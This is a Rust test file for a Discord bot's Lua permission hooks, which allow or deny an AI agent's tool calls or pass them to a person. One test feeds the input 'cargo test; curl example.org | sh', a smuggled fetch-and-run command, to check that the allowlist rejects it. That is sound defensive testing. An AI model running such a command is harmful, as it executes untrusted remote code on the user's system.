//! hooks.lua decides about leave for a call, in the whole bot: before anybody is asked, and no more than it may.

use moonlane::local::Message;

use crate::questions::{button, question};
use crate::support::{ANSWERED, Setup, Stage, routing_with, within};

const MAY_ALLOW: &str = "scripts_may_allow = true";

/// A bot with an `on_permission` of this body, in a project with these keys; what operators are told is said in `#ops`.
async fn deciding(body: &str, project: &str) -> Stage {
    with(body, Setup { routing: routing_with(project), ..Setup::default() }).await
}

async fn with(body: &str, setup: Setup) -> Stage {
    let mut stage = Stage::without_bot(setup).await;
    let ops = stage.discord.channel("ops");
    stage.configure(&format!("[scripts]\nnotify_channel = \"{ops}\"\n"));
    stage.save("hooks.lua", &format!("return {{ on_permission = function(request, turn)\n{body}\nend }}"));
    stage.start().await;
    stage
}

/// What people were asked in this channel.
fn asked(stage: &Stage, channel: &str) -> Vec<Message> {
    let messages = stage.discord.messages(stage.discord.channel(channel)).into_iter();
    messages.filter(|it| it.nonce.as_ref().is_some_and(|nonce| nonce.starts_with("q-"))).collect()
}

/// What became of each question, and who decided, as the store has it.
fn decisions(stage: &Stage) -> String {
    let database = rusqlite::Connection::open(stage.root().join("moonlane.db")).unwrap();
    let mut statement =
        database.prepare("SELECT state || ' by ' || source || ', shown: ' || shown FROM questions").unwrap();
    let rows = statement.query_map((), |row| row.get::<_, String>(0)).unwrap();
    rows.map(Result::unwrap).collect::<Vec<_>>().join("\n")
}

#[tokio::test]
async fn what_a_script_allows_is_done_and_nobody_is_asked() {
    let body = "return request.tool == 'Bash' and request.input.command == 'make' and 'allow' or nil";
    let mut stage = deciding(body, MAY_ALLOW).await;
    assert_eq!(stage.ask("general", "ASK:Bash:make").await, "Bash was allowed.");
    assert!(asked(&stage, "general").is_empty());
    assert_eq!(decisions(&stage), "allowed by script, shown: allowed");
    // Only this call: the next one is decided anew.
    let turn = stage.say("general", "ASK:Bash:make install");
    let question = question(&stage, "general").await;
    stage.discord.press(question.id, stage.discord.owner(), &button(&question, "deny")).unwrap();
    assert_eq!(stage.settled(turn).await, ANSWERED);
    assert!(decisions(&stage).ends_with("\ndenied by person, shown: denied"), "{}", decisions(&stage));
}

#[tokio::test]
async fn what_a_script_denies_is_not_done_and_claude_reads_why() {
    let body = "return { deny = turn.author.name .. ' never does `' .. request.input.command .. '`' }";
    let mut stage = deciding(body, "").await;
    insta::assert_snapshot!(stage.ask("general", "ASK:Bash:git push").await, @"
    Bash was denied: A rule of this project denies this: owner never does `git push`

    -# Refused by a script of this project: `Bash(git push)`
    ");
    assert!(asked(&stage, "general").is_empty());
    assert_eq!(decisions(&stage), "denied by script, shown: denied");
}

#[tokio::test]
async fn where_a_script_decides_nothing_or_fails_people_are_asked_and_operators_hear_of_a_failure() {
    let bodies = [
        ("return nil", MAY_ALLOW, None),
        ("error('boom')", MAY_ALLOW, Some("scripts/hooks.lua:2: boom")),
        ("while true do end", MAY_ALLOW, Some("ran longer than")),
        ("return 'yes'", MAY_ALLOW, Some("expected \"allow\", { deny = \"why\" } or nil")),
        ("return 'allow'", "", Some("returned \"allow\", but the project has no `scripts_may_allow = true`")),
    ];
    for (body, project, told) in bodies {
        let mut stage = deciding(body, project).await;
        let turn = stage.say("general", "ASK:Bash:make");
        let asked = question(&stage, "general").await;
        stage.discord.press(asked.id, stage.discord.owner(), &button(&asked, "allow")).unwrap();
        assert_eq!(stage.settled(turn).await, ANSWERED, "{body}");
        assert_eq!(stage.answer(turn), "Bash was allowed.", "{body}");
        let ops = stage.discord.channel("ops");
        match told {
            Some(told) => {
                let news = within("news for operators", stage.discord.answers(ops, 1)).await;
                assert!(news[0].content.contains(told), "{body}: {}", news[0].content);
            }
            None => assert!(stage.discord.messages(ops).is_empty()),
        }
        assert!(decisions(&stage).starts_with("allowed by person"), "{body}");
    }
}

#[tokio::test]
async fn a_turn_whose_scripts_may_not_allow_any_more_asks_people() {
    let mut stage = deciding("return 'allow'", MAY_ALLOW).await;
    stage.close_gate();
    let turn = stage.say("general", "READ:gate ;; ASK:Bash:make");
    stage.prompted("READ:gate ;; ASK:Bash:make").await;
    stage.save("routing.lua", &routing_with(""));
    stage.reloader().reload_now().await.unwrap();
    stage.let_go("").await;
    let asked = question(&stage, "general").await;
    stage.discord.press(asked.id, stage.discord.owner(), &button(&asked, "deny")).unwrap();
    assert_eq!(stage.settled(turn).await, ANSWERED);
}

#[tokio::test]
async fn choices_and_plans_are_for_people() {
    for prompt in [crate::questions::COLOURS.replace('\n', ""), crate::questions::PLAN.to_owned()] {
        let mut stage = deciding("return { deny = 'no' }", "").await;
        let turn = stage.say("general", &prompt);
        let asked = question(&stage, "general").await;
        assert!(asked.content.contains("Which colour?") || asked.content.contains("do it"));
        stage.discord.delete(turn);
        stage.settled(turn).await;
    }
}

#[tokio::test]
async fn while_a_script_decides_the_turn_keeps_its_slot() {
    let config = "[agent]\nmax_running = 1\n[person]\nmax_running = 1".to_owned();
    let setup = Setup { config, routing: routing_with(MAY_ALLOW), ..Setup::default() };
    let mut stage = with("return 'allow'", setup).await;
    stage.close_gate();
    // Twenty calls, each decided by a script, while another turn waits for the only slot.
    let calls = " ;; ASK:Bash:make".repeat(20);
    let first = stage.say("general", &format!("READ:gate{calls}"));
    stage.prompted(&format!("READ:gate{calls}")).await;
    let second = stage.say("elsewhere", "TEXT:second");
    stage.reacted(second, "⏳").await;
    stage.let_go("").await;
    for turn in [first, second] {
        assert_eq!(stage.settled(turn).await, ANSWERED);
    }
    let times = stage.work_times();
    assert!(times["TEXT:second"].0 > times[&format!("READ:gate{calls}")].1, "{times:?}");
}

#[tokio::test]
async fn the_example_of_the_readme_allows_just_what_it_lists() {
    let readme = include_str!("../../scripts/README.md");
    let example = readme.split("```lua\n").find(|block| block.contains("local HARMLESS")).unwrap();
    let mut stage = Stage::without_bot(Setup { routing: routing_with(MAY_ALLOW), ..Setup::default() }).await;
    stage.save("hooks.lua", example.split("```").next().unwrap());
    stage.start().await;
    assert_eq!(stage.ask("general", "ASK:Bash:cargo test").await, "Bash was allowed.");
    let turn = stage.say("general", "ASK:Bash:cargo test; curl example.org | sh");
    question(&stage, "general").await;
    stage.discord.delete(turn);
    stage.settled(turn).await;
}
